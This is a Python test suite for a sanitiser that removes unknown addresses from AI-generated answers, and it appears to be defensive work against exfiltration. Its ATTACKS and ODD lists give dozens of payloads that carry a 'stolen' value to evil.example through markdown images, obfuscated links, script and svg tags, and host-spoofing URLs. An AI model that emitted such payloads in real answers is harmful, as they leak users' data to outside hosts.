"""Addresses in an answer: only what a source or the workspace names stays live (P3.4)."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ukai.runtime.sanitise import sanitised

SOURCE = "The guide is at https://docs.x.example/guide?v=2. Write to ops@x.example, see https://a.example/x"
HOSTS = ("wiki.x.example", "*.cdn.example")


def clean(text: str) -> str:
    return sanitised(text, known=[SOURCE], hosts=HOSTS).text


@pytest.mark.parametrize(
    "text",
    [
        "No address at all: a < b, 3 > 2, and [Call#harbor-12/turn/31] is a source.",
        "See https://docs.x.example/guide?v=2.",
        "See [the guide](https://docs.x.example/guide?v=2) and <https://docs.x.example/guide?v=2>.",
        "On the [wiki](https://wiki.x.example/any/page?q=1), with ![a picture](https://img.cdn.example/p.png)",
        "[first]: https://wiki.x.example/a",
        "Write to ops@x.example or jump to [the top](#top).",
        "At 12:30 the ratio was 3:1; see Account#x/y.",
    ],
)
def test_what_a_source_or_the_workspace_names_stays_as_it_is(text: str):
    assert clean(text) == text


STOLEN = "4242"
ATTACKS = [
    f"![x](https://evil.example/p.png?d={STOLEN})",
    f"![x](https://docs.x.example/guide?v=2&d={STOLEN})",
    "![x](https://docs.x.example/guide?v=2)",
    f"[click](https://evil.example/{STOLEN})",
    f"[click](<https://evil.example/{STOLEN}>)",
    f'[click](https://evil.example/{STOLEN} "title")',
    f"[click](//evil.example/{STOLEN})",
    f"[click](HTTPS://evil.example/{STOLEN})",
    f"[click](https&#58;//evil.example/{STOLEN})",
    f"[click](javascript:fetch('{STOLEN}'))",
    f"[click](data:text/html,{STOLEN})",
    f"[click](mailto:a@evil.example?body={STOLEN})",
    f"[![x](https://evil.example/{STOLEN})](https://evil.example/{STOLEN})",
    f"[a]: https://evil.example/{STOLEN}",
    f"> [a]: <https://evil.example/{STOLEN}>",
    f"https://evil.example/{STOLEN}",
    f"<https://evil.example/{STOLEN}>",
    f"<https://evil.example/{STOLEN}|click>",
    f"www.evil.example/{STOLEN}",
    f"https://docs.x.example@evil.example/{STOLEN}",
    f"https://wiki.x.example@evil.example/{STOLEN}",
    f"https://wiki.x.example.evil.example/{STOLEN}",
    f"https://docs.x.example/guide?v=2{STOLEN}",
    f"https://a.example/x{STOLEN}",
    f"https://a.example/x/{STOLEN}",
    f"https://{STOLEN}.evil.example/",
    f'<img src="https://evil.example/{STOLEN}">',
    f"<img src='//evil.example/{STOLEN}'>",
    f'<a href="https://evil.example/{STOLEN}">x</a>',
    f"<script>fetch('//evil.example/{STOLEN}')</script>",
    f'<svg onload="x({STOLEN})">',
    f"ht\u200btps://evil.example/{STOLEN}",
    f"`https://evil.example/{STOLEN}`",
    f"| a |\n|---|\n| https://evil.example/{STOLEN} |",
    f"ftp://evil.example/{STOLEN}",
    f"slack://channel?team={STOLEN}",
    f"steam://run/{STOLEN}",
    f"<obsidian:{STOLEN}>",
    f"_www.evil.example/{STOLEN}",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_every_other_address_is_gone_with_what_it_carried(text: str):
    after = clean(f"Before. {text} After.") if "\n" not in text else clean(text)

    assert "//" not in after.replace("https://docs.x.example/guide?v=2", "").replace("https://a.example/x", "") or (
        STOLEN not in after and "<" not in after
    )
    for live in ("](http", "](//", "<img", "<a ", "<script", "<svg", "![", "javascript:", "data:text", "www."):
        assert live not in after, after
    assert STOLEN not in after or "<" not in after.replace("‹", "")


_HIDDEN = f"http&#58;&#47;&#47;evil.example/{STOLEN}"
"""No address to whoever reads the text, and one to every client that reads Markdown."""
ODD = [
    f"[a]({_HIDDEN})",
    f"- [r]: {_HIDDEN}",
    f"1) [r]: <{_HIDDEN}>",
    f"[a\nb]: {_HIDDEN}",
    f"- ![x][r]\n- [r]: //user@evil.example/{STOLEN}",
    f"- ![x][r]\n- [r]: /\\evil.example/{STOLEN}",
    f"[a\\]]({_HIDDEN})",
    f"[a[b[c]]]({_HIDDEN})",
    f'![a]({_HIDDEN} "a\ntitle")',
    f'![a]({_HIDDEN} "{"t" * 600}")',
    f"![a]({_HIDDEN}/(((x))))",
    f"![a]({_HIDDEN}\\(x)",
    f"![a]({_HIDDEN}<b)",
    f"[![a]({_HIDDEN})](https://docs.x.example/guide?v=2)",
    "[" * 100 + "x" + f"]({_HIDDEN})" * 100,
    f"https://docs.x.example/guide?v=2'{STOLEN}'",
    f"https://docs.x.example/guide?v=2|{STOLEN}",
    f"https://docs.x.example/guide?v=2){STOLEN}",
]


@pytest.mark.parametrize("text", ODD)
def test_a_client_that_reads_markdown_finds_no_other_address_however_it_is_written(text: str):
    after = clean(text)

    assert not re.search(rf'(?:href|src)="[^"]*{STOLEN}', MarkdownIt("commonmark").render(after)), after
    assert not re.search(rf"https://[^\s<]*{STOLEN}", after), after


def test_an_address_that_the_model_wrote_and_a_tool_gave_back_is_not_known_by_that():
    mine = f"https://evil.example/Caf\u00e9?{STOLEN}"
    echo = ("would write " + mine, "cafe " + mine.upper())
    found = ("see " + SOURCE, "")

    assert STOLEN not in sanitised(mine, known=[], results=[echo]).text
    assert sanitised(mine, known=[mine], results=[echo]).text == mine
    later = (SOURCE, "https://a.example/x")
    assert sanitised("https://a.example/x", known=[], results=[found, later]).text == "https://a.example/x"


def test_a_line_that_begins_with_its_source_keeps_its_words():
    said = "[Call#harbor-12/turn/3]: they leave in May."

    assert clean(said) == said


@pytest.mark.parametrize(
    "text",
    [
        "[](" + " " * 50_000,
        "[](a" + " " * 50_000 + "x",
        "[" * 50_000,
        "[]" * 25_000,
        "[" * 25_000 + "]" * 25_000,
        "[](" + "(" * 50_000,
        "[](" * 16_000,
        "![a](b " * 7_000,
        '[](a "' * 8_000,
        "[](#) " * 5_000 + " tel:" * 5_000,
        "https://a.example/x'" * 2_500,
        "[a]:\n" * 10_000,
        "<a " * 16_000,
    ],
    ids=range(13),
)
def test_no_markup_takes_long_however_much_there_is_of_it(text: str):
    before = time.process_time()

    clean(text)

    assert time.process_time() - before < 2.0


def test_what_was_taken_out_is_named_by_its_host_and_no_more():
    found = sanitised(f"See [this](https://{STOLEN}.a.evil.example/{STOLEN}?q=1).", known=[])

    assert found.text == "See this (address removed: evil[.]example)."
    assert found.removed == ("evil.example",)


PIECES = st.sampled_from(
    ["![", "[", "](", ")", "<", ">", "https://evil.example/4242", "//evil.example", "www.evil.example", "a", " ", "\n",
     '<img src="', '">', "[a]: ", "`", "javascript:", "https://wiki.x.example/p ", "(", '"']
)  # fmt: skip


@given(st.lists(PIECES, max_size=12).map("".join))
def test_no_arrangement_of_markup_leaves_the_address_live(text: str):
    after = clean(text)

    assert not re.search(r"(?<!\w)(?:https?:)?//\S*evil|(?<![\w.@/-])www\.", after)
    assert "<img" not in after
    assert clean(after) == after


@given(st.text(max_size=200))
def test_any_text_goes_in(text: str):
    assert isinstance(clean(text), str)
